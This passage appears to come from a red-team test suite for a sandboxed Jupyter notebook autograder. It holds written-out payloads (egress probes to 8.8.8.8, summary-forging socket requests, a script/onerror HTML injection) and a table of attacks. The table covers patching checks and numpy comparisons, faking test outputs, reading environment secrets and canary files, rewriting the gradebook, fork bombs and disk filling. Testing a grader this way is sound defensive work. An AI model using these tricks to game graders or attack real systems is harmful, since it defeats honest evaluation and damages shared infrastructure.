    u.sendto(b"red team", ("8.8.8.8", 53))
    print("RT udp sent (no reply expected)")
except Exception as e:
    print("RT udp", type(e).__name__)
try:
    print("RT-BREACH resolved", socket.getaddrinfo("example.com", 80)[:1])
except Exception as e:
    print("RT dns", type(e).__name__)
try:
    import os
    print("RT interfaces:", os.listdir("/sys/class/net") if os.path.isdir("/sys/class/net") else "no /sys")
except Exception as e:
    print("RT interfaces", type(e).__name__)
"""

# ------------------------------------------------------------------ the instructor's summary

FLAG_INJECTION = """
import json, os, socket, struct
_PATH = os.environ.get("GRADER_" + "SOCKET")
def _ask(name, part="basic"):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect(_PATH)
        data = json.dumps({"op": "begin", "kind": "check", "name": name, "part": part}).encode()
        s.sendall(struct.pack(">I", len(data)) + data)
        s.recv(100)
        s.close()
    except Exception:
        pass
# a request whose item name forges lines of the instructor's summary
_ask("sgd_step (basic)\\nhonest-correct / 00_tiny\\n    FLAG: honest-correct: the notebook replaced numpy.allclose "
     "(its answers are copied from x-flag-injection)\\nhonest-wrong / 00_tiny\\n    FAILED: forged", "x")
for i in range(300):   # every distinct name is one more FLAG line
    _ask(f"flood-{i:04d}")
_ask("long-" + "L" * 100_000)
print("RT injected")
"""

PROBLEM_INJECTION = """
class NotebookTimeout(Exception):
    pass
raise NotebookTimeout("not run: forged\\nhonest-correct / 00_tiny\\n    problem: honest-correct: a cell killed the "
                      "kernel (forged by x-problem-injection)")
"""

FEEDBACK_HTML = """
from IPython.display import HTML, Javascript, display
display(HTML('<script>document.title = "rt-script-ran"</script><img src=x onerror="document.title=1">'))
display(Javascript('document.title = "rt-js-ran"'))
"""

# ------------------------------------------------------------------ the table

NOT_TEST_CELL = "a cell that is not a test cell asked the grader"
REFERS = "refers to gradeclient"

ATTACKS = [
    # code tricks inside the kernel
    Attack("k-transformer-blank", "kernel", 2, wrong(TRANSFORMER_BLANK),
           what="input transformer turning every line with 'check' into pass"),
    Attack("k-ast-transformer", "kernel", 2, wrong(AST_TRANSFORMER),
           what="AST transformer dropping check calls + cleanup transformer blanking hidden-test cells"),
    Attack("k-fake-modules", "kernel", 2, wrong(FAKE_MODULES),
           what="fake gradeclient/grader modules in sys.modules (names built from strings)"),
    Attack("k-monkeypatch-check", "kernel", 2, wrong(MONKEYPATCH_CHECK), flags=(REFERS,),
           what="gradeclient.check = lambda: None"),
    Attack("k-forge-wire", "kernel", 2, wrong(FORGE_WIRE),
           flags=(REFERS, "momentum_step_basic: asked for sgd_step (basic), which this cell does not grade"),
           what="wire.send replaced: begin renamed to another item, a forged 'done' before results"),
    Attack("k-settrace", "kernel", 2, wrong(SETTRACE),
           what="sys.settrace rewriting the kernel-side locals holding outputs; setprofile spying"),
    Attack("k-stack-inspect", "kernel", 2, {"sgd_step": SGD, "momentum_step": STACK_INSPECT},
           what="inspect.stack() and gc.get_objects() searched for expected values"),
    Attack("k-gc-reference", "kernel", 2, wrong(GC_REFERENCE),
           what="gc search for the reference momentum_step; importlib of grader.reference"),
    Attack("k-import-grader", "kernel", 2, wrong(IMPORT_GRADER), flags=("momentum_step refers to grader",),
           what="import grader.reference.momentum and use its momentum_step"),
    Attack("k-numpy-patch", "kernel", 2, wrong(NUMPY_PATCH),
           what="np.allclose/isclose/array_equal/abs/max/testing patched"),
    Attack("k-exit-in-check", "kernel", 2, wrong(EXIT_IN_CHECK),
           what="os._exit inside the checked function"),
    Attack("k-system-exit", "kernel", 2, wrong(SYSTEM_EXIT),
           what="SystemExit from the checked function and from the answer cell"),
    Attack("k-lying-objects", "kernel", 2, wrong(LYING_OBJECTS),
           what="returns objects whose __array__/__float__/__eq__ lie"),
    Attack("k-lying-ndarray", "kernel", 2, wrong(LYING_NDARRAY),
           what="ndarray subclass with an __eq__ that is always true"),
    Attack("k-hostile-exception", "kernel", 2, wrong(HOSTILE_EXCEPTION),
           what="exceptions with a hostile __str__/__repr__ and a fake name; KeyboardInterrupt"),
    # grader-request misuse
    Attack("r-check-in-answer-cell", "requests", 2, wrong(CHECK_FROM_ANSWER),
           flags=(REFERS, f"{NOT_TEST_CELL} for momentum_step (basic)", f"{NOT_TEST_CELL} for question q1"),
           what="gradeclient.check called from an answer cell"),
    Attack("r-check-from-thread", "requests", 2, wrong(CHECK_FROM_THREAD), flags=(NOT_TEST_CELL,),
           what="background thread requesting checks in a loop (import built from strings)"),
    Attack("r-check-twice", "requests", 2, wrong(CHECK_TWICE),
           flags=("momentum_step_basic: asked a second time for momentum_step (basic)",),
           what="input transformer running every check line twice"),
    Attack("r-lookup-table", "requests", 2, wrong(LOOKUP_TABLE),
           flags=("momentum_step_basic: asked a second time for momentum_step (basic)",
                  "momentum_step_basic: asked for momentum_step (random), which this cell does not grade"),
           what="the checked function calls check itself (nested requests, lookup table)"),
    Attack("r-forge-socket", "requests", 2, wrong(FORGE_SOCKET),
           flags=(f"{NOT_TEST_CELL} for momentum_step (basic)",
                  "momentum_step_basic: asked for sgd_step (basic), which this cell does not grade"),
           what="raw connection to GRADER_SOCKET: forged begin for another cell's item, forged results"),
    Attack("r-socket-garbage", "requests", 2, wrong(SOCKET_GARBAGE),
           flags=("something that is not a request", "malformed request"),
           what="garbage, huge header, invalid JSON, 40 MB message, 40 silent connections"),
    Attack("r-memory-amplification", "requests", 2, wrong(MEMORY_AMPLIFICATION),
           flags=("is over the 1048576 byte limit",),   # a request is small: a huge one is refused unread
           what="4 concurrent 48 MB requests of small floats (the trusted side parses each fully)"),
    Attack("r-connection-flood", "requests", 2, wrong(CONNECTION_FLOOD),
           what="600 silent connections to the grader socket held for 5 s"),
    # notebook file edits
    Attack("n-skip-execution-tags", "notebook", 2, wrong(""), change=_tag,
           flags=("cell momentum_step_basic: tags raises-exception, skip-execution were added",
                  "cell momentum_step: tags remove-output were added"),
           what="skip-execution/raises-exception tags on test cells"),
    Attack("n-tests-pass", "notebook", 2, wrong(""), change=_pass_tests,
           flags=("cell momentum_step_basic was edited", "cell momentum_step_random was edited"),
           what="test cells' source replaced by pass"),
    Attack("n-tests-deleted", "notebook", 2, wrong(""), change=_delete_tests,
           flags=("cell momentum_step_basic was deleted", "cell momentum_step_random was deleted"),
           what="test cells deleted"),
    Attack("n-points-100", "notebook", 5, {"sgd_step": SGD, "momentum_step": MOMENTUM}, change=_points_100,
           flags=("cell momentum_step_basic: its grading metadata was changed (points)",),
           what="points of every test cell set to 100 (correct code: worth 5, not 400)"),
    Attack("n-answer-graded", "notebook", 2, wrong(""), change=_answer_graded,
           flags=("cell momentum_step: its grading metadata was changed (grade, points)",),
           what="answer cells marked as grade cells worth 10"),
    Attack("n-test-made-answer", "notebook", 2, wrong(""), change=_test_made_answer,
           flags=("cell momentum_step_basic: its grading metadata was changed (locked, solution)",
                  "cell momentum_step_basic was edited"),
           what="a test cell turned into an answer cell (solution flag) holding pass"),
    Attack("n-kernelspec", "notebook", 2, wrong(""), change=_kernelspec,
           flags=("the kernelspec was changed to 'python3-unsandboxed'",),
           what="kernelspec and language_info changed"),
    Attack("n-fake-outputs", "notebook", 2, wrong(""), change=_fake_outputs,
           what="test cells handed in with 'All tests passed!' outputs"),
    Attack("n-cells-reordered", "notebook", 2, wrong(""), change=_reorder,
           what="test cells moved before the answers, reversed"),
    Attack("n-extra-cells", "notebook", 2, wrong(""), change=_extra_cells,
           flags=("a cell of your own", REFERS),
           what="extra cells: a correct momentum_step, a patched check, a blanking transformer"),
    Attack("n-nbformat-metadata", "notebook", 2, wrong(""), change=_nb_metadata,
           what="notebook metadata (nbgrader, widgets), cell ids, nbformat_minor changed"),
    Attack("n-grade-id-swap", "notebook", 2, wrong(""), change=_swap_ids,
           flags=("cell momentum_step_basic was edited",),
           what="grade ids of the momentum answer and its first test swapped"),
    Attack("n-lesson-cell-edited", "notebook", 2, wrong(""), change=_lesson_edit,
           what="the locked setup cell edited: numpy patch, blanking transformer, a correct momentum_step"),
    # reading secrets
    Attack("s-environ", "secrets", 2, wrong(READ_ENVIRON), what="prints os.environ"),
    Attack("s-proc", "secrets", 2, wrong(READ_PROC), what="/proc/*/cmdline, environ, mountinfo"),
    Attack("s-repository", "secrets", 2, wrong(READ_REPO),
           what="reads grader/reference, grader/checks, solutions/ of the repository"),
    Attack("s-course-root", "secrets", 2, wrong(READ_COURSE),
           what="reads secret-canary.txt, the instructor's notebook, other submissions, the gradebook"),
    Attack("s-home", "secrets", 2, wrong(READ_HOME), what="lists /root, /home, /etc ..., reads dotfiles"),
    Attack("s-fs-walk", "secrets", 2, wrong(FS_WALK),
           what="walks the whole visible file system for canaries, gradebooks, notebooks, sockets"),
    Attack("s-own-files", "secrets", 2, wrong(READ_OWN_FILES),
           what="reads every file of its own working directory (what the grader copied in)"),
    # damage
    Attack("d-write-gradebook", "damage", 2, wrong(WRITE_GRADEBOOK),
           what="sqlite3 UPDATE grade SET auto_score = 100 on the course's gradebook"),
    Attack("d-write-others", "damage", 2, wrong(WRITE_OTHERS),
           what="rewrites another student's submission, plants a submission folder"),
    Attack("d-edit-config", "damage", 2, wrong(EDIT_CONFIG),
           what="edits nbgrader_config.py; probes the repository and venv for write access; .pth drop"),
    Attack("d-detached", "damage", 2, wrong(DETACHED),
           what="setsid Popen, sh with HUP/TERM ignored, double fork: meant to rewrite the gradebook later"),
    Attack("d-hijack-kernel", "damage", 2, wrong(HIJACK),
           what="looks for the concurrent kernel's connection file and grader.sock (--jobs 2)"),
    Attack("d-fork-bomb", "damage", 2, wrong(FORK_BOMB), what="fork loop (children fork too) for 2 s"),
    Attack("d-disk-fill", "damage", 2, wrong(DISK_FILL), what="1 GiB to /tmp, cwd, HOME, /dev/shm"),
    Attack("d-stderr-flood", "damage", 2, wrong(STDERR_FLOOD), what="64 MB written to fd 2 (below sys.stderr)"),
    Attack("d-output-flood", "damage", 2, wrong(OUTPUT_FLOOD), what="prints 1 MB chunks for 3 s"),
    Attack("d-network", "damage", 2, wrong(NETWORK),
           what="TCP/UDP to the host's loopback and address, the internet, DNS"),
    # the instructor's summary
    Attack("x-flag-injection", "summary", 2, wrong(FLAG_INJECTION), flags=(NOT_TEST_CELL,),
           what="request item names with newlines forging summary lines for other students; 300 distinct "
                "names; a 100 kB name"),
    Attack("x-problem-injection", "summary", 2, wrong(PROBLEM_INJECTION),
           what="an answer cell raising its own NotebookTimeout whose message forges summary lines"),
    Attack("x-feedback-html", "summary", 2, wrong(FEEDBACK_HTML),
           what="answer cell displays HTML with <script>, an onerror handler and Javascript"),
    # the submission folder itself
    Attack("f-symlinks", "files", 2, wrong(SYMLINK_READER), files=_symlinks,
           what="symlinks in the submission folder to secret-canary.txt, the gradebook, another "
                "student's notebook, the reference source"),
    Attack("f-symlinked-notebook", "files", 0, {"sgd_step": STUB_SGD, "momentum_step": STUB_MOMENTUM},
           files=_symlink_notebook, what="the notebook itself is a symlink to another student's notebook"),
    Attack("f-symlinked-timestamp", "files", 2, wrong(""), files=_symlink_timestamp,
           what="timestamp.txt is a symlink to secret-canary.txt"),
]
assert len({a.name for a in ATTACKS}) == len(ATTACKS)
